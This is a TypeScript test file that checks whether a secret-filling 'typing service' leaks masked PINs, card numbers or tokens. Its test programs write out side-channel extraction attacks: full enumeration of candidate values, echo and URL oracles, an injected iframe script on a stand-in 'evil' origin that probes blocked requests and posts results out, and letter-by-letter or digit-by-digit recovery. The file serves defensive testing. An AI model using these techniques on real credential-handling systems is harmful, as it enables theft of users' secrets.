import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Site,
  startSite,
  startTypingService,
  type TypingService,
} from './typed-secrets.test-helpers.ts';

const pin = '4711';
const card = '4929123456781234';
const token = 'fade-bead-cafe';
/** Numbers of four digits around the PIN. */
const near = Array.from({ length: 100 }, (_, at) => String(4_700 + at));

// Their sources are programs of workflows too.
function listDates() {
  return Array.from({ length: 7_305 }, (_, day) =>
    new Date(Date.UTC(1980, 0, 1 + day)).toISOString().slice(0, 10).replaceAll('-', ''),
  );
}
function listDashed() {
  return Array.from({ length: 10_000 }, (_, at) => String(at).padStart(4, '0').replace(/^../, '$&-'));
}
function listWithBlank() {
  return Array.from({ length: 10_000 }, (_, at) => `${String(at).padStart(4, '0')} `);
}

/** Tries every number in a request of its own, and reports which of them did not arrive, in a form that no mask looks for. */
const probe = `<script>
  const isTime = async () => (await (await fetch('/is-time')).text()) === 'yes';
  const wait = () => new Promise((resolve) => setTimeout(resolve, 20));
  (async () => {
    while (!(await isTime())) await wait();
    const stopped = [];
    for (let number = 4700; number < 4800; number += 1) {
      try { await fetch('/try?number=' + number); } catch { stopped.push(number * 3); }
    }
    await fetch('/report', { method: 'POST', body: stopped.join() });
  })();
</script>`;

describe('what the mask gives away', { tags: ['security', 'extended'] }, () => {
  let own: Site;
  let evil: Site;
  let typing: TypingService;

  beforeAll(async () => {
    own = await startSite('127.0.0.1', ({ path, body, raw }, response) => {
      if (path === '/echo') {
        response.setHeader('content-type', 'application/json');
        return void response.end(JSON.stringify({ said: body }));
      }
      if (path === '/pin')
        return void response.end(`<label>Pin <input></label><iframe src="${evil.origin}/ad"></iframe><script>
          document.querySelector('input').oninput = () => fetch('/typed', { method: 'POST', body: 'yes' });</script>`);
      if (path === '/token')
        return void response.end(`<label>Token <input></label><p></p><script>document.querySelector('input').oninput =
          ({ target: { value } }) => { document.querySelector('p').textContent = 'Typed: ' + value + ' today'; };</script>`);
      response.end(raw.method === 'GET' ? '<label>Number <input></label>' : '');
    });
    evil = await startSite('127.0.0.2', ({ path }, response) => {
      const isTyped = own.received.some((request) => request.path === '/typed');
      if (path === '/is-time') return void response.end(isTyped ? 'yes' : 'no');
      if (path === '/ad') return void response.end(probe);
      if (path === '/result')
        return void response.end(evil.received.find((request) => request.path === '/report')?.body ?? 'none');
      const numbers = new URL(path, 'http://evil').searchParams.get('list')?.split(',') ?? [];
      response.end(numbers.map((number) => `<p>${number}</p>`).join(''));
    });
    typing = await startTypingService([own, evil]);
  });
  afterAll(async () => {
    await typing?.service.close();
    await own?.[Symbol.asyncDispose]();
    await evil?.[Symbol.asyncDispose]();
  });

  const secretOf = (value: string) => ({
    credential_type: 'secret',
    credential: { secret_value: value },
    allowed_hosts: [own.origin],
  });
  const fill = (path: string, name: string) => `
    await page.goto('${own.origin}${path}');
    const field = (await page.elements()).find((each) => each.name === '${name}');
    await page.fill(field.id, login.secret_value);`;

  it.each([
    ['a date of birth', '19870412', listDates],
    ['a PIN with a dash', '47-11', listDashed],
    ['a PIN that was stored with a blank', '4711 ', listWithBlank],
  ])('a program cannot read %s by listing all of its kind', async (_kind, value, list) => {
    const { status, output } = await typing.run(`return (${list})();`, secretOf(value));
    expect(status).toMatch(/completed|failed/);
    const all = list();
    expect(all).toContain(value);
    const altered = all.filter((text, at) => output?.[at] !== text);
    expect(altered).not.toEqual([value]);
  });

  it('a program cannot read a PIN from an answer that repeats all numbers beside it', async () => {
    const { status, reason, output } = await typing.run(
      `const guesses = ${JSON.stringify(near)};
       const body = guesses.map((guess) => 'n' + guess.charCodeAt(3) + ' ' + guess).join(' ') + ' real ' + login.secret_value;
       const said = (await (await fetch('${own.origin}/echo', { method: 'POST', body })).json()).said;
       const missing = guesses.filter((guess) => !said.includes(' ' + guess));
       return { said: said.length, read: missing.map((guess) => Number(guess) * 3) };`,
      secretOf(pin),
    );
    expect({ status, reason }).toEqual({ status: 'completed', reason: null });
    expect(own.received.some(({ path, body }) => path === '/echo' && body.endsWith(`real ${pin}`))).toBe(
      true,
    );
    expect(output.said).toBeGreaterThan(500);
    expect(output.read).not.toEqual([Number(pin) * 3]);
  });

  it('a frame of another site cannot read a PIN by trying which of its own requests are refused', async () => {
    const { status, reason, output } = await typing.run(
      `${fill('/pin', 'Pin')}
       for (;;) {
         const result = await (await fetch('${evil.origin}/result')).text();
         if (result !== 'none') return result;
         await sleep(50);
       }`,
      secretOf(pin),
    );
    expect({ status, reason }).toEqual({ status: 'completed', reason: null });
    expect(evil.received.filter(({ path }) => path.startsWith('/try')).length).toBeGreaterThan(90);
    expect(output).not.toBe(String(Number(pin) * 3));
  });

  it('a program cannot read a PIN from an address of its site that lists all numbers', async () => {
    const { status, reason, output } = await typing.run(
      `${fill('/number', 'Number')}
       const guesses = ${JSON.stringify(near)};
       await page.goto('${own.origin}/number?list=' + guesses.join('.'));
       const shown = await page.url();
       return { shown, read: guesses.filter((guess) => !shown.includes(guess)).map((guess) => Number(guess) * 3) };`,
      secretOf(pin),
    );
    expect({ status, reason }).toEqual({ status: 'completed', reason: null });
    expect(own.received.some(({ path }) => path.startsWith('/number?list=4700'))).toBe(true);
    expect(output.read).not.toEqual([Number(pin) * 3]);
  });

  it('a program cannot read a token that its site shows letter by letter, by selecting its text', async () => {
    const { status, reason, output } = await typing.run(
      `${fill('/token', 'Token')}
       const masked = await page.text();
       let read = '';
       for (let isLonger = true; isLonger && read.length < ${token.length}; ) {
         isLonger = false;
         for (const letter of 'abcdef-') {
           const isRight = await page.selectText('Typed: ' + read + letter).then(() => true, () => false);
           if (!isRight) continue;
           // What is selected would be dragged away.
           await page.click(field.id);
           read += letter;
           isLonger = true;
           break;
         }
       }
       return { masked, read: [...read].reverse().join('') };`,
      secretOf(token),
    );
    expect({ status, reason }).toEqual({ status: 'completed', reason: null });
    expect(output.masked).toContain('Typed: ');
    expect(output.masked).not.toContain(token);
    expect(output.read).not.toBe([...token].reverse().join(''));
  });

  it('a program cannot read the number of a card digit by digit on a page of its own', async () => {
    const { status, reason, output } = await typing.run(
      `${fill('/number', 'Number')}
       await page.press('Backspace');
       let read = '${card.slice(0, 7)}';
       while (read.length < 15) {
         const guesses = Array.from({ length: 10 }, (_, digit) => read + digit);
         await page.goto('${evil.origin}/digits?list=' + guesses.join());
         const shown = await page.text();
         const hidden = guesses.filter((guess, digit) => !shown.includes(guess) && !shown.includes('[secret]' + digit));
         if (hidden.length !== 1) break;
         read = hidden[0];
       }
       return [...read].map(Number);`,
      secretOf(card),
    );
    expect({ status, reason }).toEqual({ status: 'completed', reason: null });
    expect(evil.received.some(({ path }) => path.startsWith('/digits'))).toBe(true);
    expect(output.join('')).toBe(card.slice(0, 7));
  });
});
